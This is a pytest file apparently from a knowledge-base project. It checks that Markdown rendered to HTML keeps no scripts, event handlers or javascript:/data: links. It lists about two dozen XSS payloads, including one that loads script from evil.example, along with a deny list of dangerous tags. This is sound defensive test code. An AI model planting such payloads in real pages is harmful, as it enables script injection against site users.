"""Published bodies are Markdown rendered to HTML from which no script survives."""

import re
from html.parser import HTMLParser

import pytest

from knowledge.rendering import render_markdown

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<body onload="alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "![x](javascript:alert(1))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p onclick="alert(1)" onmouseover="alert(2)">hi</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<details open ontoggle="alert(1)">',
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://ok.example" onfocus="alert(1)" autofocus>ok</a>',
    "```\n<script>alert(1)</script>\n```",
    '<base href="javascript:alert(1)//">',
]
DANGEROUS_TAGS = {"script", "iframe", "svg", "math", "object", "embed", "form", "input",
                  "style", "meta", "base", "body", "details", "link"}  # fmt: skip


class Elements(HTMLParser):
    """Every element and attribute of the rendered HTML, as a browser's parser sees them."""

    def __init__(self, html: str):
        super().__init__()
        self.found: list[tuple[str, dict]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_script_or_event_handler_survives_rendering(payload):
    html = render_markdown(f"Before\n\n{payload}\n\nAfter")

    for tag, attrs in Elements(html).found:
        assert tag not in DANGEROUS_TAGS
        assert not [name for name in attrs if name.startswith("on") or name == "style"]
        for name in ("href", "src"):
            url = re.sub(r"\s", "", attrs.get(name, "")).lower()
            assert not url.startswith(("javascript:", "data:", "vbscript:"))


def test_code_blocks_show_markup_as_text():
    html = render_markdown("```\n<script>alert(1)</script>\n```")

    assert "&lt;script&gt;" in html


def test_ordinary_markdown_keeps_its_structure_and_safe_links():
    html = render_markdown("# Steps\n\n1. **Check** the [order](https://shop.example/o/1)\n")

    assert "<h1>Steps</h1>" in html
    assert "<strong>Check</strong>" in html
    assert 'href="https://shop.example/o/1"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
